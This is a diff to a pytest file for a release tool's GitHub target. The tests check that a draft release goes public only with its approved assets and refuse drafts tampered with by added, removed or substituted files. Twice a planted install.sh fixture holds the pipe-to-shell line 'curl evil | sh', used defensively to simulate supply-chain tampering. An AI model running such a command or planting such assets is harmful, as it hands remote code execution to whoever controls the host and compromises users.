@@ -12,7 +12,7 @@ import pytest
 from github import GithubException
 
 from valet.config import Config
-from valet.errors import ConflictError, TargetError
+from valet.errors import ConflictError, IntegrityError, TargetError
 from valet.targets.base import State
 from valet.targets.github import (
     GitHubTarget,
@@ -69,6 +69,7 @@ class StubAsset:
         self.release, self.name, self.data = release, name, data
         self.digest = "sha256:" + hashlib.sha256(data).hexdigest()
         self.state = "uploaded"
+        self.size = len(data)
 
     def delete_asset(self) -> bool:
         self.release.assets.remove(self)
@@ -82,13 +83,21 @@ class StubRelease:
         self.draft, self.prerelease, self.body, self.name = draft, prerelease, body, title or tag
         self.assets: list[StubAsset] = []
         self.updates: list[dict[str, Any]] = []
+        self.on_update: Any = None  # runs at the PATCH (someone acting at that moment)
 
     @property
     def html_url(self) -> str:
         return f"https://gh/{self.repo.full_name}/releases/tag/{self.tag_name}"
 
     def get_assets(self) -> list[StubAsset]:
+        self.repo.listings += 1
         return list(self.assets)
+
+    @property
+    def raw_data(self) -> dict[str, Any]:
+        # what GitHub answers a PATCH with: the release, its assets listed inside
+        return {"id": self.id, "assets": [{"name": a.name, "state": a.state, "size": a.size,
+                                           "digest": a.digest} for a in self.assets]}
 
     def upload_asset(self, path: str, name: str, content_type: str) -> StubAsset:
         asset = StubAsset(self, name, Path(path).read_bytes())
@@ -98,9 +107,12 @@ class StubRelease:
 
     def update_release(self, **kw: Any) -> StubRelease:
         self.updates.append(kw)
-        self.repo.calls.append(("update", kw["tag_name"]))
-        self.draft, self.prerelease, self.body = kw["draft"], kw["prerelease"], kw["message"]
-        self.tag_name = kw["tag_name"]
+        if self.on_update is not None:
+            self.on_update()
+        self.tag_name = kw.get("tag_name", self.tag_name)
+        self.repo.calls.append(("update", self.tag_name))
+        self.draft, self.body = kw["draft"], kw["message"]
+        self.prerelease = kw.get("prerelease", self.prerelease)
         if not self.draft:
             self.repo.tags.setdefault(self.tag_name, kw["target_commitish"])
         return self
@@ -112,6 +124,7 @@ class StubRepo:
         self.releases: list[StubRelease] = []
         self.tags: dict[str, str] = {}
         self.calls: list[tuple[str, str]] = []
+        self.listings = 0  # asset listings read (get_assets)
 
     def get_releases(self) -> list[StubRelease]:
         return list(self.releases)
@@ -309,7 +322,7 @@ def test_stage_fills_the_draft_and_publish_only_makes_it_public(tmp_path: Path) 
 
 def test_a_draft_holding_other_bytes_is_conflict(tmp_path: Path) -> None:
     repo = StubRepo()
-    draft = repo.add("v1.2.3", draft=True, files={"acme-1.2.3.tgz": b"swapped"})
+    draft = repo.add("v1.2.3", draft=True, files={"acme-1.2.3.tgz": b"NPM"})  # same size
     assert GitHubTarget().status(_ctx(tmp_path, repo, release_id=draft.id)).state \
         is State.CONFLICT
 
@@ -342,3 +355,89 @@ def test_destinations_are_the_api_host_and_the_sdk_repository(tmp_path: Path) ->
     ghes = make_ctx(tmp_path, [], name="github", repo="acme/sdk",
                     env={"GITHUB_API_URL": "https://GHE.example.com/api/v3"})
     assert GitHubTarget().destinations(ghes)[0] == Destination("host", "ghe.example.com")
+
+
+# -- the draft that goes public holds exactly the approved files -------------------------
+
+APPROVED = {"acme-1.2.3.tgz": b"npm", "acme-1.2.3.tar.gz": b"sdist"}
+
+
+def test_an_asset_added_after_the_check_is_never_made_public(tmp_path: Path) -> None:
+    """install.sh lands on the draft after the store's check and the status, while the
+    other targets publish: the draft is listed again right before the PATCH that makes
+    it public, and it stays a draft."""
+    repo = StubRepo()
+    draft = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
+    ctx = _ctx(tmp_path, repo, release_id=draft.id)
+    target = GitHubTarget()
+    assert target.status(ctx).state is State.ABSENT
+    target.stage(ctx)
+    draft.assets.append(StubAsset(draft, "install.sh", b"curl evil | sh"))
+    before = repo.listings
+    with pytest.raises(IntegrityError, match="install.sh") as err:
+        target.publish(ctx)
+    assert "changed after the request" in err.value.message
+    assert draft.draft and draft.updates == []
+    assert repo.listings == before + 1  # looked again right before the PATCH, once
+
+
+def test_an_asset_deleted_after_the_check_is_refused_before_going_public(
+        tmp_path: Path) -> None:
+    repo = StubRepo()
+    draft = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
+    ctx = _ctx(tmp_path, repo, release_id=draft.id)
+    target = GitHubTarget()
+    target.status(ctx)
+    target.stage(ctx)
+    draft.assets = [a for a in draft.assets if a.name != "acme-1.2.3.tgz"]
+    with pytest.raises(IntegrityError, match="lacks acme-1.2.3.tgz"):
+        target.publish(ctx)
+    assert draft.draft and draft.updates == []
+
+
+def test_an_asset_added_during_the_patch_turns_the_release_back_into_a_draft(
+        tmp_path: Path) -> None:
+    """GitHub has no check-and-publish in one step: what lands between the last listing
+    and the PATCH shows in the PATCH's answer, and the release goes back to draft."""
+    repo = StubRepo()
+    draft = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
+    draft.on_update = lambda: draft.assets.append(StubAsset(draft, "install.sh", b"x")) \
+        if not any(a.name == "install.sh" for a in draft.assets) else None
+    with pytest.raises(IntegrityError, match="install.sh"):
+        GitHubTarget().publish(_ctx(tmp_path, repo, release_id=draft.id))
+    assert draft.draft is True and draft.updates[-1]["draft"] is True
+
+
+def test_a_draft_someone_else_made_with_an_extra_asset_is_conflict(tmp_path: Path) -> None:
+    """The workflow-artifacts store names no draft: the target would adopt one made for
+    the tag by someone with write access, install.sh included."""
+    repo = StubRepo()
+    repo.add("v1.2.3", draft=True, files={**APPROVED, "install.sh": b"curl evil | sh"})
+    result = GitHubTarget().status(_ctx(tmp_path, repo))
+    assert result.state is State.CONFLICT and "install.sh" in result.detail
+    with pytest.raises(ConflictError, match="install.sh"):
+        GitHubTarget().publish(_ctx(tmp_path / "b", repo))
+    assert all(r.draft for r in repo.releases)
+
+
+def test_the_recorded_draft_gone_is_refused_never_another_draft_of_the_tag(
+        tmp_path: Path) -> None:
+    """Drafts may share a tag: with the recorded one deleted, an attacker's second draft
+    holding other bytes is not published instead."""
+    repo = StubRepo()
+    repo.add("v1.2.3", draft=True, files={n: b"E" * len(d) for n, d in APPROVED.items()})
+    ctx = _ctx(tmp_path, repo, release_id=424242)
+    with pytest.raises(IntegrityError, match="424242"):
+        GitHubTarget().status(ctx)
+    with pytest.raises(IntegrityError, match="424242"):
+        GitHubTarget().publish(_ctx(tmp_path / "b", repo, release_id=424242))
+    assert all(r.draft and r.updates == [] for r in repo.releases)
+    assert not [c for c in repo.calls if c[0] in ("create", "upload", "tag", "update")]
+
+
+def test_the_recorded_draft_is_published_not_another_draft_of_the_tag(tmp_path: Path) -> None:
+    repo = StubRepo()
+    evil = repo.add("v1.2.3", draft=True, files={n: b"E" * len(d) for n, d in APPROVED.items()})
+    mine = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
+    GitHubTarget().publish(_ctx(tmp_path, repo, release_id=mine.id))
+    assert mine.draft is False and evil.draft is True and evil.updates == []
